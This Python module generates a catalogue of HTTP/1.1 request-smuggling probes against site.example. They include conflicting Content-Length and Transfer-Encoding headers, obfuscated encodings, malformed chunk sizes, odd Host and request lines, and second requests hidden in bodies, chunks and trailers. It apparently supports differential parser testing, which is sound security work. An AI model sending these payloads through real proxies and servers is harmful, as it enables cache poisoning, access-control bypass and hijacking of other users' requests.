"""Requests that two servers may read in two ways, as octets (peers.md part 7, request smuggling).

Each is sent on a connection of its own, where it asks for /a. A second request, where one is hidden, asks for /smuggled
and names nobody. `{agent}` is the user agent of the first, and `{number}`, three digits, stands in every path, so that
an origin can tell whose it is.
"""

from __future__ import annotations

_SECOND = "GET /smuggled{number} HTTP/1.1\r\nHost: site.example\r\n\r\n"
_LENGTH = len(_SECOND) - len("{number}") + 3
_CHUNKED = "Transfer-Encoding: chunked\r\n"
_END = "0\r\n\r\n"


def _get(fields: str = "", line: str = "GET /a{number} HTTP/1.1", host: str = "Host: site.example\r\n") -> str:
    return f"{line}\r\n{host}User-Agent: {{agent}}\r\n{fields}\r\n"


def _post(fields: str, body: str, line: str = "POST /a{number} HTTP/1.1") -> str:
    return _get(fields, line) + body + _SECOND


_LENGTHS = ("+4", "-4", "4, 4", "0x4", "4 ", "04", "4\x0b", "99999999999999999999", "", "4;a=b", "4e0", "４")
_CODINGS = (
    *("xchunked", "chunked, identity", "identity, chunked", "gzip, chunked", "\x0bchunked", "chunked\x00", "CHUNKED"),
    *("chunked;q=1", '"chunked"', "chunk", "chunked,", ", chunked", "chunked chunked", "\tchunked", "c\u0127unked"),
)
_SIZES = (
    "3\n",
    "0x3\r\n",
    "+3\r\n",
    "-3\r\n",
    " 3\r\n",
    "3 \r\n",
    "3;x\n",
    '3;"\r\n"\r\n',
    "10000000000000003\r\n",
    "3\r",
    "\r\n3\r\n",
    "g\r\n",
)
_HOSTS = (
    *("", "Host:\r\n", "Host: site.example\r\nHost: other.example\r\n", "Host: site.example\r\nHost: site.example\r\n"),
    *(
        "Host: user@site.example\r\n",
        "Host: site.example/a{number}\r\n",
        "Host : site.example\r\n",
        "Host: site.example, other\r\n",
    ),
    "X: y\r\n Host: site.example\r\n",
)
_LINES = (
    *(
        "GET http://other.example/a{number} HTTP/1.1",
        "GET http://site.example/a{number} HTTP/1.1",
        "GET  /a{number} HTTP/1.1",
        "GET /a{number}  HTTP/1.1",
    ),
    *(
        "GET /a{number} HTTP/1.1 ",
        "GET /a{number}",
        "GET /a{number} HTTP/1.2",
        "GET /a{number} HTTP/2.0",
        "GET /a{number} HTTP/0.9",
        "GET /a{number} http/1.1",
        "get /a{number} HTTP/1.1",
    ),
    *(
        "GET /a{number}\x0bHTTP/1.1",
        "GET\t/a{number} HTTP/1.1",
        "\r\nGET /a{number} HTTP/1.1",
        "GET /a{number}\x00 HTTP/1.1",
        "GET a HTTP/1.1",
        "GET * HTTP/1.1",
    ),
    *(
        "CONNECT site.example:443 HTTP/1.1",
        "GET /a{number}#b HTTP/1.1",
        "GET /a{number}\r HTTP/1.1",
        "G(T /a{number} HTTP/1.1",
        "OPTIONS * HTTP/1.1",
    ),
)
_FIELDS = (
    *(
        "X: a\rY: b\r\n",
        "X: a\r\n b\r\n",
        "X : a\r\n",
        "X\r\n",
        ": a\r\n",
        "X: a\x00b\r\n",
        "X Y: a\r\n",
        "\x0bX: a\r\n",
        "X: a\nY: b\r\n",
    ),
    *(
        "Connection: User-Agent\r\n",
        "Connection: Host\r\n",
        "Connection: close, Content-Length\r\n",
        "Trailer: Host\r\n",
    ),
    *(
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
        "Expect: 100-continue\r\n",
    ),
    *(
        "Expect: something\r\n",
        "TE: trailers, chunked\r\n",
        "Proxy-Connection: keep-alive\r\n",
        "Keep-Alive: timeout=5\r\n",
    ),
)


def payloads() -> dict[str, str]:
    """Every request by a name that says what is odd."""
    found = {f"Content-Length {each!r}": _post(f"Content-Length: {each}\r\n", "abcd") for each in _LENGTHS}
    found |= {f"Transfer-Encoding {each!r}": _post(f"Transfer-Encoding: {each}\r\n", _END) for each in _CODINGS}
    found |= {f"chunk size {each!r}": _post(_CHUNKED, f"{each}abc\r\n{_END}") for each in _SIZES}
    found |= {f"hosts {each!r}": _get(host=each) for each in _HOSTS}
    found |= {f"line {each!r}": _get(line=each) for each in _LINES}
    found |= {f"field {each!r}": _get(each) for each in _FIELDS}
    return found | {
        "two Content-Lengths that differ": _post("Content-Length: 4\r\nContent-Length: 5\r\n", "abcd"),
        "two Content-Lengths that agree": _post("Content-Length: 4\r\nContent-Length: 4\r\n", "abcd"),
        "Content-Length before Transfer-Encoding": _post(f"Content-Length: 4\r\n{_CHUNKED}", _END),
        "Transfer-Encoding before Content-Length": _post(f"{_CHUNKED}Content-Length: 4\r\n", _END),
        "Transfer-Encoding twice": _post(_CHUNKED * 2, _END),
        "Transfer-Encoding folded": _post("Transfer-Encoding:\r\n chunked\r\n", _END),
        "Transfer-Encoding with a blank before the colon": _post("Transfer-Encoding : chunked\r\n", _END),
        "Transfer-Encoding in HTTP/1.0": _post(_CHUNKED, _END, "POST /a{number} HTTP/1.0"),
        "Transfer_Encoding with an underscore": _post("Transfer_Encoding: chunked\r\nContent-Length: 5\r\n", _END),
        "Content-Length beside an Upgrade": _post(
            "Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 4\r\n", "abcd"
        ),
        "a body with GET": _get(f"Content-Length: {_LENGTH}\r\n") + _SECOND,
        "a body with HEAD": _get(f"Content-Length: {_LENGTH}\r\n", "HEAD /a{number} HTTP/1.1") + _SECOND,
        "a second request as the body": _get(f"Content-Length: {_LENGTH}\r\n", "POST /a{number} HTTP/1.1") + _SECOND,
        "a second request in a chunk": _get(_CHUNKED, "POST /a{number} HTTP/1.1")
        + f"{_LENGTH:x}\r\n{_SECOND}\r\n{_END}",
        "a second request behind the first": _get() + _SECOND,
        "a second request in trailers": _get(_CHUNKED, "POST /a{number} HTTP/1.1") + f"0\r\n{_SECOND}",
        "trailers that name a host": _get(_CHUNKED, "POST /a{number} HTTP/1.1") + "0\r\nHost: other.example\r\n\r\n",
        "chunks without an end": _get(_CHUNKED, "POST /a{number} HTTP/1.1") + "3\r\nabc\r\n",
        "line feeds alone": _get().replace("\r\n", "\n"),
        "the preface of HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "TLS": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    }
